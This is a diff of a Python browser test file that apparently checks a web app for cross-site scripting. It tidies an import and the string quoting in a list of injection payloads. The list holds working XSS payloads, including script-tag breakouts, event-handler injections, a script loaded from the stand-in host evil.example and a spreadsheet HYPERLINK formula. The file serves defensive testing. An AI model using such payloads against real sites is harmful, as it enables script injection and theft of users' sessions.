@@ -9,7 +9,7 @@ from tests.browser import room as rooms
 from tests.browser.conftest import Visits
 from tests.browser.room import House, Room
 from workshop.cards.queries import shown
-from workshop.db import new_id
+from workshop.ground.db import new_id
 from workshop.plan import actions as plan
 
 pytestmark = pytest.mark.browser
@@ -18,7 +18,7 @@ PAYLOADS = (
     "<img src=x onerror=window.ran=1>",
     "<svg onload=window.ran=1>",
     "<svg><script>window.ran=1</script></svg>",
-    "\"><img src=//evil.example/x onerror=window.ran=1>",
+    '"><img src=//evil.example/x onerror=window.ran=1>',
     "'><script src=//evil.example/x.js></script>",
     "</textarea><script>window.ran=1</script>",
     "</title><script>window.ran=1</script>",
@@ -33,7 +33,7 @@ PAYLOADS = (
     "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
     "&lt;b&gt; &#60;script&#62; &amp;amp;",
     "<div id=fragment data-rev=999999></div><input name=csrf_token>",
-    "=HYPERLINK(\"//evil.example/\") 👩🏽‍💻 مرحبا שלום",
+    '=HYPERLINK("//evil.example/") 👩🏽‍💻 مرحبا שלום',
 )
 
 
